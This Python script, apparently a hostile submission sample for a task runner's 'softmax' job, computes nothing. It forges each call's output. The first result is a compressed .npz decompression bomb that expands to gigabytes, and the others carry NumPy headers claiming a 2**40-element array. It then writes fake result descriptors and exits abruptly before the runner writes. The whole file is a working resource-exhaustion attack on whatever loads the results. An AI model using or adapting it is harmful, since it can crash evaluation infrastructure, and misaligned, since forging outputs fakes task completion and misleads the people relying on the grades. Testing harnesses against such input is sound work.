# seqprep-task: softmax
"""Forge every call's result as a small compressed .npz that would decode to gigabytes,
and one whose header promises a huge array; then leave before the runner writes anything."""
import glob
import json
import os
import struct
import zipfile
import zlib

GIB = 2**30
plan = json.load(open(glob.glob("/.seqprep/in/plan.json")[0] if glob.glob("/.seqprep/in/plan.json")
                      else "../in/plan.json"))


def npy_header(shape):
    header = "{'descr': '<f8', 'fortran_order': False, 'shape': %r, }" % (shape,)
    header = header.ljust(118) + "\n"
    return b"\x93NUMPY\x01\x00" + struct.pack("<H", len(header)) + header.encode()


def bomb(path, gigabytes):
    count = gigabytes * GIB // 8
    with zipfile.ZipFile(path, "w", compression=zipfile.ZIP_DEFLATED, compresslevel=1) as archive:
        with archive.open("result.npy", "w", force_zip64=True) as member:
            member.write(npy_header((count,)))
            zeros = b"\0" * 2**22
            for _ in range(gigabytes * GIB // len(zeros)):
                member.write(zeros)


for index, call in enumerate(plan["calls"]):
    name = f"out_{call['id']}"
    if index == 0:
        bomb(name + ".npz", 1)
    else:  # a stored member whose header says 2**40 doubles
        with zipfile.ZipFile(name + ".npz", "w") as archive:
            archive.writestr("result.npy", npy_header((2**40,)) + b"\0" * 64)
    with open(name + ".json", "w") as f:
        json.dump({"result": {"t": "tensor", "key": "result", "dtype": "torch.float32"}}, f)
print("FORGED", len(plan["calls"]), os.path.getsize(f"out_{plan['calls'][0]['id']}.npz"))
os._exit(0)
